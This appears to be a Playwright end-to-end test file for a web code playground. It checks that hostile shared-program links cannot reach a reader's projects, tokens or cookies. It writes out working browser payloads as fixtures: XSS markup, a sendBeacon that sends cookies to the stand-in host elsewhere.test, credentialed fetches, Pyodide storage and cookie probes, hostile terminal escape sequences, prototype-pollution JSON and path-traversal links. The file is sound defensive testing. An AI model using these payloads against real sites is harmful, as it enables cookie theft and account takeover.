"""Links that somebody hostile made: whatever is in them, the reader's projects, tokens and pages stay the reader's."""

from __future__ import annotations

import base64
import json
import re
import zlib
from collections.abc import Callable, Iterator, Mapping
from typing import Any

import pytest
from playwright.sync_api import Page, Route, expect
from tests.e2e.conftest import Stack
from tests.e2e.playground import Playground

CANARY = "canary-8c1f"
"""What the reader has that no program may learn: in a project, a token and a cookie of the site."""

HTML = """
<meta http-equiv="refresh" content="0;url={elsewhere}/refreshed">
<base target="_top">
<img src=x onerror="parent.postMessage('reached','*'); top.location='{elsewhere}/navigated'">
<script>
  const reach = (name, attempt) => { try { document.body.append(name + ': ' + attempt()); } catch (e) {} };
  top.location = '{elsewhere}/navigated';
  open('{elsewhere}/popup');
  reach('storage', () => Object.entries(parent.localStorage).join());
  reach('cookie', () => parent.document.cookie);
  fetch('{site}/api/languages', { credentials: 'include' }).then(() => top.location = '{elsewhere}/fetched');
  navigator.sendBeacon('{elsewhere}/beacon', document.cookie);
</script>
<form action="{elsewhere}/form"><input name="x" autofocus onfocus="this.form.submit()"></form>
<iframe src="{elsewhere}/framed"></iframe>
<object data="{elsewhere}/object"></object>
<link rel="stylesheet" href="{elsewhere}/style.css"><style>@import '{elsewhere}/import.css';</style>
<p>The page of the program</p>
"""

PROGRAM = """
import js
from pyodide.ffi import to_js

def get(url):
    request = js.XMLHttpRequest.new()
    request.open("GET", url, False)
    request.withCredentials = True
    request.send()
    return request.responseText

for attempt in (
    "js.localStorage.length",
    "js.document.cookie",
    "js.indexedDB.open('wardian')",
    "js.caches.open('x')",
    "js.parent.document.body.innerText",
    "js.top.location.replace('{elsewhere}/navigated')",
    "js.open('{elsewhere}/popup').closed",
    "js.importScripts('{site}/assets/playground/playground.js')",
    "js.eval('1 + 1')",
):
    try:
        print("REACHED", attempt, eval(attempt))
    except BaseException as error:
        print("REFUSED", attempt)
for url in ("{site}/api/languages", "{site}/playground/", "{elsewhere}/sent?x"):
    try:
        print("REACHED", url, len(get(url)))
    except BaseException as error:
        print("REFUSED", url)
for message in ({{"type": "ready", "typed": True}}, {{"type": "opened"}}, "connect"):
    js.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
"""

MARKUP = (
    '<img src=x onerror="document.title=1;fetch(`{elsewhere}/markup`)"><script>fetch("{elsewhere}/script")</script>'
)

ANSI = "".join(
    (
        "\x1b]0;title\x07\x1b]8;;javascript:fetch('{elsewhere}/link')\x1b\\click\x1b]8;;\x1b\\",
        "\x1b]52;c;ZXZpbA==\x07\x1b[?1049h\x1b[2J\x1b[999999999;999999999H\x1bc\x1b[31m<b onclick=1>red</b>",
        "\x1bP" + "q" * 500 + "\x1b\\",
    )
)


def link(url: str, said: Any, page: str = "playground/") -> str:
    """A link to the program in `said`, which need not be one."""
    text = said if isinstance(said, bytes) else json.dumps(said).encode()
    packer = zlib.compressobj(9, wbits=-15)
    payload = base64.urlsafe_b64encode(packer.compress(text) + packer.flush()).decode().rstrip("=")
    return f"{url}/{page}#code=1{payload}"


def program(source: str, **more: Any) -> dict[str, Any]:
    return {"language": "python", "title": "Nice", "files": [["main.py", source]], **more}


@pytest.fixture
def asked(page: Page) -> list[str]:
    """What another host was asked for: not what a browser's policy stopped before it left."""
    hosts: list[str] = []

    def answer(route: Route) -> None:
        hosts.append(route.request.url)
        route.fulfill(body="got it")

    page.context.route("**://elsewhere.test/**", answer)
    return hosts


ELSEWHERE = "https://elsewhere.test"


@pytest.fixture
def reader(playground: Playground, page: Page, asked: list[str]) -> Iterator[Playground]:
    """Somebody with a project, a token and a cookie; all of it must be as it was in the end, and nothing have left."""
    playground.open("c/hello")
    playground.write(f"// {CANARY}")
    page.evaluate(f"localStorage.setItem('wardian:1:deployment:x', '{CANARY}'); document.cookie = 'session={CANARY}'")
    page.context.add_cookies([{"name": "token", "value": CANARY, "url": playground.url, "httpOnly": True}])
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("dialog", lambda dialog: errors.append(dialog.message))
    kept = page.evaluate("JSON.stringify(localStorage)")
    yield playground
    assert page.context.pages == [page], "something opened a window"
    assert page.url.startswith(playground.url), "the page was taken elsewhere"
    assert asked == []
    assert errors == []
    assert page.evaluate("JSON.stringify(localStorage)") == kept
    assert page.evaluate("({}).polluted") is None
    playground.open("c/hello")
    assert playground.text() == f"// {CANARY}"


def follow(reader: Playground, said: Any) -> None:
    reader.page.goto("about:blank")
    reader.page.goto(link(reader.url, said))


def expect_usable(reader: Playground) -> None:
    """What stands there can be changed and run."""
    expect(reader.editor).to_be_visible()
    reader.write("int main(void) { return 7; }")
    reader.run()
    reader.expect_ended("exit code 7")


def fill(text: str, reader: Playground) -> str:
    return text.replace("{elsewhere}", ELSEWHERE).replace("{site}", reader.url)


def run_shared(reader: Playground, source: str, **more: Any) -> None:
    follow(reader, program(source, **more))
    expect(reader.element).to_contain_text("Somebody shared this program.")
    expect(reader.status).to_be_empty()
    reader.run()
    reader.expect_ended()


def test_a_shared_program_reaches_nothing_of_the_readers(reader: Playground) -> None:
    run_shared(reader, PROGRAM.format(elsewhere=ELSEWHERE, site=reader.url))
    expect(reader.output).to_contain_text("REFUSED js.top")
    expect(reader.output).to_contain_text("REFUSED https://elsewhere.test/sent")
    expect(reader.output).not_to_contain_text("REACHED")
    expect(reader.output).not_to_contain_text(CANARY)


def test_the_page_that_a_shared_program_prints_can_do_nothing(reader: Playground) -> None:
    html = fill(HTML, reader)
    run_shared(reader, f"print('Content-Type: text/html\\n')\nprint({html!r})")
    shown = reader.element.frame_locator("iframe").get_by_text("The page of the program")
    expect(shown).to_be_visible()
    expect(reader.element.frame_locator("iframe").locator("body")).not_to_contain_text(CANARY)


def test_the_same_page_outside_of_its_frame_would_reach_out(page: Page, stack: Stack, asked: list[str]) -> None:
    """So what is refused above is refused by the frame, and would have been noticed."""
    page.goto(f"{stack.url}/playground/")
    page.evaluate(f"document.cookie = 'session={CANARY}'")
    own = page.evaluate("document.cookie")
    page.route(f"{stack.url}/control", lambda route: route.fulfill(body=control(stack.url), content_type="text/html"))
    page.goto(f"{stack.url}/control")
    expect(page).to_have_url(re.compile(f"^{ELSEWHERE}/(navigated|fetched)$"))
    assert CANARY in own
    assert asked


def control(url: str) -> str:
    return HTML.replace("{elsewhere}", ELSEWHERE).replace("{site}", url).replace('<meta http-equiv="refresh"', "<meta")


@pytest.mark.parametrize("text", [MARKUP, ANSI], ids=["markup", "control sequences"])
def test_what_a_shared_program_prints_is_text(reader: Playground, text: str) -> None:
    title = reader.page.title
    before = title()
    run_shared(reader, f"import sys\nfor s in (sys.stdout, sys.stderr): s.write({fill(text, reader)!r})")
    assert reader.output.locator("img, script, a, b, iframe").count() == 0
    assert title() == before


@pytest.mark.parametrize("place", ["title", "description", "file", "argument"])
def test_markup_in_what_a_link_tells_is_text(reader: Playground, place: str) -> None:
    markup = fill(MARKUP, reader)
    more: dict[str, Mapping[str, Any]] = {
        "title": {"title": markup},
        "description": {"description": markup},
        "file": {"files": [["main.py", "print(1)"], ["<img src=x onerror=document.title=1>", "x"]]},
        "argument": {"args": [markup], "env": [["X", markup]], "stdin": markup},
    }
    run_shared(reader, "print(1)", **more[place])
    reader.button("Share").click()
    dialog = reader.element.get_by_role("dialog")
    expect(dialog).to_be_visible()
    reader.page.keyboard.press("Escape")
    made = "img[onerror], script:not([type='application/json'])"
    assert reader.element.locator(made).count() == 0


BROKEN: dict[str, tuple[Callable[[str], str], str]] = {
    "a bomb": (lambda url: link(url, b" " * 5_500_000), "larger than 4 MiB"),
    "a bomb in a file": (lambda url: link(url, program(" " * (2**20 + 1))), "a project may have 1.0 MiB"),
    "too many files": (
        lambda url: link(url, program("", files=[["main.py", ""], *([f"f{n}", ""] for n in range(99))])),
        "64",
    ),
    "a long link": (lambda url: f"{url}/playground/#code=1{'A' * 100_000}", "100,001 characters"),
    "no deflate": (lambda url: f"{url}/playground/#code=1AAAAAAAA", "broken"),
    "no text": (lambda url: f"{url}/playground/#code=1%3Cscript%3E", "broken"),
    "nothing": (lambda url: f"{url}/playground/#code=", "broken"),
    "no JSON": (lambda url: link(url, b"<script>alert(1)</script>"), "broken"),
    "deep JSON": (lambda url: link(url, b"[" * 200_000), "broken"),
    "a polluting file": (
        lambda url: link(url, program("", files=[["main.py", ""], ["__proto__", "polluted"]])),
        "broken",
    ),
    "a polluting object": (
        lambda url: link(
            url, b'{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"language":"c"}'
        ),
        "broken",
    ),
    "a file above": (lambda url: link(url, program("", files=[["main.py", ""], ["../../x", ""]])), "was not opened"),
    "a file at the root": (lambda url: link(url, program("", files=[["main.py", ""], ["/x", ""]])), "was not opened"),
    "a reversed name": (
        lambda url: link(url, program("", files=[["main.py", ""], ["a\u202efdp.exe", ""]])),
        "was not opened",
    ),
    "an unknown language": (lambda url: link(url, {"language": "__proto__", "title": "x", "files": []}), "broken"),
    "another project": (lambda url: f"{url}/playground/?project=own/../../x", "no such project"),
    "an example elsewhere": (lambda url: f"{url}/playground/?example=%5C%5Celsewhere.test/x", "no example"),
    "an example above": (lambda url: f"{url}/playground/?example=../../api/config", "no example"),
    "a share above": (lambda url: f"{url}/playground/?share=../languages", "no shared program"),
    "a language of markup": (lambda url: f"{url}/playground/?language=%3Cimg%20src=x%3E", "no language <img src=x>"),
}


@pytest.mark.parametrize("name", BROKEN)
def test_a_link_that_is_no_program_says_so_and_the_page_works(reader: Playground, name: str) -> None:
    make, said = BROKEN[name]
    reader.page.goto("about:blank")
    reader.page.goto(make(reader.url))
    alert = reader.element.get_by_role("alert")
    expect(alert).to_be_visible()
    expect(alert).to_contain_text(said)
    expect(reader.editor).to_be_visible()


def test_after_a_broken_link_programs_run(reader: Playground) -> None:
    follow(reader, b"broken")
    expect(reader.element.get_by_role("alert")).to_contain_text("broken")
    expect(reader.editor).to_have_text(f"// {CANARY}")
    expect_usable(reader)
    reader.write(f"// {CANARY}")


def test_a_shared_program_does_not_take_the_place_of_a_project_of_the_same_name(reader: Playground) -> None:
    said = {"language": "c", "title": "Hello", "key": "c/hello", "files": [["main.c", "int main(void) { return 1; }"]]}
    follow(reader, said)
    expect(reader.editor).to_contain_text("return 1")
    reader.write("int main(void) { return 2; }")
    expect(reader.page).to_have_url(re.compile(r"\?project=own"))
